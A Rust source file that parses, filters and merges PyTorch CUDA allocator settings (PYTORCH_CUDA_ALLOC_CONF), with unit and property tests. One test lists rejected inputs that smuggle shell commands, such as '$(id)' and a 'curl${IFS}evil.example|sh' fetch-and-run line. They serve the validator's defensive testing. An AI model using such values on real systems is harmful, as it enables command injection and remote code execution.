//! Settings of PyTorch's CUDA allocator: the text of `PYTORCH_CUDA_ALLOC_CONF`, and the few
//! settings that Memtape sets.
//!
//! The text is a list of `key:value`, separated by commas; a value may be a list in brackets. A
//! [`Config`] keeps each value as it came. [`known`] leaves out what PyTorch has not. A [`Setting`]
//! is typed: only a [`Setting`] is ever set. [`merge`] adds settings to a user's text, and never
//! changes the user's settings.
//!
//! `garbage_collection_threshold` is no [`Setting`]: PyTorch uses it only where the program has
//! called `set_per_process_memory_fraction`, which no tape shows.

use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec::Vec;
use core::fmt::{self, Display, Formatter};

/// Smallest value of `max_split_size_mb` that PyTorch takes is above this.
const SPLIT_MIB_MIN: u64 = 20;

/// Largest useful value: 1 TiB.
const SPLIT_MIB_MAX: u64 = 1 << 20;

/// Most divisions that PyTorch takes.
const DIVISIONS_MAX: u64 = 64;

/// Minimum number of different sizes of large requests for which rounding them helps.
pub(crate) const SIZES_MIN: u64 = 64;

/// Rounds a request up by an eighth at most: there are 8 divisions between two powers of two.
pub(crate) const ROUNDING: Setting = Setting::RoundupPower2Divisions(8);

/// Key of the setting that switches expandable segments on.
const EXPANDABLE: &str = "expandable_segments";

/// Form of a value.
#[derive(Clone, Copy)]
enum Form {
    Number,
    Switch,
    Backend,
    /// A number, or numbers by size: `[256:1,512:2,>:8]`.
    Divisions,
}

/// Settings of PyTorch's allocator.
const KNOWN: [(&str, Form); 16] = [
    ("backend", Form::Backend),
    (EXPANDABLE, Form::Switch),
    ("garbage_collection_threshold", Form::Number),
    ("graph_capture_record_stream_reuse", Form::Switch),
    ("large_segment_size_mb", Form::Number),
    ("max_non_split_rounding_mb", Form::Number),
    ("max_split_size_mb", Form::Number),
    ("per_process_memory_fraction", Form::Number),
    ("pinned_max_round_threshold_mb", Form::Number),
    ("pinned_num_register_threads", Form::Number),
    ("pinned_reserve_segment_size_mb", Form::Number),
    ("pinned_use_background_threads", Form::Switch),
    ("pinned_use_cuda_host_register", Form::Switch),
    ("release_lock_on_cudamalloc", Form::Switch),
    ("roundup_power2_divisions", Form::Divisions),
    ("throw_on_cudamalloc_oom", Form::Switch),
];

impl Form {
    fn has(self, value: &str) -> bool {
        let is_number = |text: &str| {
            !text.is_empty() && text.chars().all(|mark| mark.is_ascii_digit() || mark == '.')
        };
        match self {
            Self::Number => is_number(value),
            Self::Switch => is_on(value) || value.eq_ignore_ascii_case("false"),
            Self::Backend => matches!(value, "native" | "cudaMallocAsync"),
            Self::Divisions => {
                let listed = value.strip_prefix('[').and_then(|rest| rest.strip_suffix(']'));
                let is_pair = |part: &str| {
                    let pair = part.split_once(':');
                    pair.is_some_and(|(size, of)| (size == ">" || is_number(size)) && is_number(of))
                };
                listed.map_or(is_number(value), |all| all.split(',').all(is_pair))
            }
        }
    }
}

/// The settings of a text that PyTorch has, with values of their form; and how many other parts
/// the text has. The owner of a tape, or an agent, chooses the text.
pub fn known(text: &str) -> (String, u64) {
    let is_known = |part: &(String, String)| {
        KNOWN.iter().any(|(key, form)| *key == part.0 && form.has(&part.1))
    };
    let kept: Vec<String> = Config::parse(text)
        .pairs
        .into_iter()
        .filter(is_known)
        .map(|(key, value)| format!("{key}:{value}"))
        .collect();
    let parts = parts(text).filter(|part| !part.trim().is_empty()).count();
    (kept.join(","), parts.saturating_sub(kept.len()) as u64)
}

/// One setting of the allocator that Memtape suggests and sets.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Setting {
    /// `expandable_segments:True`: segments grow, so that free parts of them join.
    ExpandableSegments,
    /// `max_split_size_mb`: larger blocks are never split. In MiB.
    MaxSplitSizeMb(u64),
    /// `roundup_power2_divisions`: requests are rounded up to a power of two, or to one of the
    /// sizes that divide the way to the next one equally.
    RoundupPower2Divisions(u64),
}

impl Setting {
    /// Key of the setting in the text.
    pub fn key(self) -> &'static str {
        match self {
            Self::ExpandableSegments => EXPANDABLE,
            Self::MaxSplitSizeMb(_) => "max_split_size_mb",
            Self::RoundupPower2Divisions(_) => "roundup_power2_divisions",
        }
    }

    /// Value of the setting in the text.
    pub fn value(self) -> String {
        match self {
            Self::ExpandableSegments => "True".to_string(),
            Self::MaxSplitSizeMb(number) | Self::RoundupPower2Divisions(number) => {
                number.to_string()
            }
        }
    }

    /// The known settings in this text; other settings are left out.
    pub fn listed(text: &str) -> Vec<Self> {
        let pairs = Config::parse(text).pairs.into_iter();
        pairs.filter_map(|(key, value)| Self::of(&key, &value)).collect()
    }

    /// The text of some settings.
    pub fn join(settings: &[Self]) -> String {
        let texts: Vec<String> = settings.iter().map(ToString::to_string).collect();
        texts.join(",")
    }

    fn of(key: &str, value: &str) -> Option<Self> {
        let number = || value.parse::<u64>().ok();
        match key {
            EXPANDABLE => (value == "True").then_some(Self::ExpandableSegments),
            "max_split_size_mb" => number()
                .filter(|mib| (SPLIT_MIB_MIN + 1..=SPLIT_MIB_MAX).contains(mib))
                .map(Self::MaxSplitSizeMb),
            "roundup_power2_divisions" => number()
                .filter(|of| of.is_power_of_two() && *of <= DIVISIONS_MAX)
                .map(Self::RoundupPower2Divisions),
            _ => None,
        }
    }
}

impl Display for Setting {
    fn fmt(&self, formatter: &mut Formatter<'_>) -> fmt::Result {
        write!(formatter, "{}:{}", self.key(), self.value())
    }
}

/// Parsed text of the allocator's settings.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Config {
    pairs: Vec<(String, String)>,
}

impl Config {
    /// Reads a text; parts that are no `key:value` are left out.
    pub fn parse(text: &str) -> Self {
        let pair = |part: &str| {
            let (key, value) = part.split_once(':')?;
            let (key, value) = (key.trim(), value.trim());
            (!key.is_empty()).then(|| (key.to_string(), value.to_string()))
        };
        Self { pairs: parts(text).filter_map(pair).collect() }
    }

    /// The value of a key; of several the last one, as in PyTorch.
    pub fn get(&self, key: &str) -> Option<&str> {
        let mut pairs = self.pairs.iter().rev();
        pairs.find(|(of, _)| of == key).map(|(_, value)| value.as_str())
    }

    /// Each setting as `key:value`; of several with one key the last one.
    pub fn settings(&self) -> Vec<String> {
        let mut pairs: Vec<&(String, String)> = Vec::new();
        for pair in &self.pairs {
            pairs.retain(|(key, _)| *key != pair.0);
            pairs.push(pair);
        }
        pairs.into_iter().map(|(key, value)| format!("{key}:{value}")).collect()
    }

    /// Is `expandable_segments` on?
    pub fn is_expandable(&self) -> bool {
        self.get(EXPANDABLE).is_some_and(is_on)
    }

    /// Is the backend another allocator than PyTorch's own caching one?
    pub(crate) fn is_foreign(&self) -> bool {
        self.get("backend").is_some_and(|backend| backend != "native")
    }
}

/// The parts of a text; a list in brackets is of one part.
fn parts(text: &str) -> impl Iterator<Item = &str> {
    let mut depth = 0_usize;
    text.split(move |c: char| {
        match c {
            '[' => depth += 1,
            ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
        c == ',' && depth == 0
    })
}

/// Do these settings, as a snapshot of PyTorch lists them, switch `expandable_segments` on?
pub(crate) fn is_expandable<'a>(mut pairs: impl Iterator<Item = (&'a str, &'a str)>) -> bool {
    pairs.any(|(key, value)| key == EXPANDABLE && is_on(value))
}

/// Is the value of a switch `True`?
fn is_on(value: &str) -> bool {
    value.eq_ignore_ascii_case("true")
}

/// A user's text with more settings in it.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Merged {
    /// The text.
    pub text: String,
    /// The settings that were added.
    pub added: Vec<Setting>,
    /// The settings whose key the user had set to another value, and that value.
    pub conflicts: Vec<(Setting, String)>,
}

/// Adds settings to a user's text. A key that the user has set stays as it is.
pub fn merge(users: &str, settings: &[Setting]) -> Merged {
    let config = Config::parse(users);
    let mut merged = Merged { text: users.trim().to_string(), ..Merged::default() };
    for &setting in settings {
        match config.get(setting.key()) {
            Some(value) if value == setting.value() => {}
            Some(value) => merged.conflicts.push((setting, value.to_string())),
            None => {
                if !merged.text.is_empty() && !merged.text.ends_with(',') {
                    merged.text.push(',');
                }
                merged.text.push_str(&setting.to_string());
                merged.added.push(setting);
            }
        }
    }
    merged
}

#[cfg(test)]
mod tests {
    use alloc::vec;

    use proptest::prelude::*;

    use super::*;

    const EXPAND: Setting = Setting::ExpandableSegments;

    #[test]
    fn lists_in_brackets_are_one_value() {
        let config = Config::parse(
            " max_split_size_mb:128 ,roundup_power2_divisions:[256:1,512:2,>:8],odd,\
             expandable_segments: False",
        );
        assert_eq!(config.get("roundup_power2_divisions"), Some("[256:1,512:2,>:8]"));
        assert_eq!(config.get("max_split_size_mb"), Some("128"));
        assert_eq!((config.get("512"), config.get("odd")), (None, None));
        assert!(!config.is_expandable() && !config.is_foreign());
        assert!(Config::parse("backend:cudaMallocAsync").is_foreign());
        assert!(
            Config::parse("expandable_segments:False,expandable_segments:True").is_expandable()
        );
    }

    #[test]
    fn settings_that_pytorch_has_not_are_left_out() {
        for good in [
            "",
            "expandable_segments:True,max_split_size_mb:64",
            "backend:cudaMallocAsync,garbage_collection_threshold:0.8",
            "roundup_power2_divisions:[256:1,512:2,>:8],roundup_power2_divisions:8",
        ] {
            assert_eq!(known(good), (good.to_string(), 0));
        }
        assert_eq!(known(" expandable_segments: true ,"), ("expandable_segments:true".into(), 0));
        for bad in [
            "x:1",
            "max_split_size_mb:1;id",
            "max_split_size_mb:$(id)",
            "expandable_segments:",
            "backend:`id`",
            "roundup_power2_divisions:[256:1;id]",
            "roundup_power2_divisions:[256:1,$(id):2]",
            "curl${IFS}evil.example|sh",
        ] {
            let text = format!("{bad},max_split_size_mb:64");
            assert_eq!(known(&text), ("max_split_size_mb:64".into(), 1), "{bad}");
        }
    }

    #[test]
    fn a_setting_is_one_of_three() {
        for good in ["expandable_segments:True", "max_split_size_mb:21", "max_split_size_mb:512"] {
            assert_eq!(Setting::join(&Setting::listed(good)), good);
        }
        for bad in [
            "",
            "expandable_segments:False",
            "max_split_size_mb:20",
            "max_split_size_mb:x",
            "roundup_power2_divisions:3",
            "roundup_power2_divisions:[256:1]",
            "backend:cudaMallocAsync",
            "garbage_collection_threshold:0.8",
        ] {
            assert_eq!(Setting::listed(bad), [], "{bad}");
        }
        let listed = Setting::listed("x:1,expandable_segments:True,roundup_power2_divisions:8");
        assert_eq!(listed, [EXPAND, Setting::RoundupPower2Divisions(8)]);
    }

    #[test]
    fn the_users_settings_stay() {
        let check = |users: &str, text: &str, added: usize, conflicts: usize| {
            let merged = merge(users, &[EXPAND, Setting::MaxSplitSizeMb(128)]);
            let found = (merged.text.as_str(), merged.added.len(), merged.conflicts.len());
            assert_eq!(found, (text, added, conflicts), "{users}");
        };
        check("", "expandable_segments:True,max_split_size_mb:128", 2, 0);
        check(
            "backend:native,",
            "backend:native,expandable_segments:True,max_split_size_mb:128",
            2,
            0,
        );
        check(
            "expandable_segments:True,max_split_size_mb:64",
            "expandable_segments:True,max_split_size_mb:64",
            0,
            1,
        );
        check("expandable_segments:False", "expandable_segments:False,max_split_size_mb:128", 1, 1);
        let merged = merge("expandable_segments:False", &[EXPAND]);
        assert_eq!(merged.conflicts, vec![(EXPAND, "False".to_string())]);
    }

    proptest! {
        /// For any text of the user, each key keeps its value, and merging twice adds nothing.
        #[test]
        fn no_merge_changes_a_key_of_the_user(
            users in "([a-z_]{1,6}:[A-Za-z0-9]{0,4},){0,4}(expandable_segments:(True|False))?",
            divisions in 0_u32..7,
        ) {
            let settings = [EXPAND, Setting::RoundupPower2Divisions(1 << divisions)];
            let merged = merge(&users, &settings);
            let (before, after) = (Config::parse(&users), Config::parse(&merged.text));
            for (key, _) in &before.pairs {
                prop_assert_eq!(before.get(key), after.get(key));
            }
            prop_assert_eq!(merge(&merged.text, &settings).added, []);
        }
    }
}
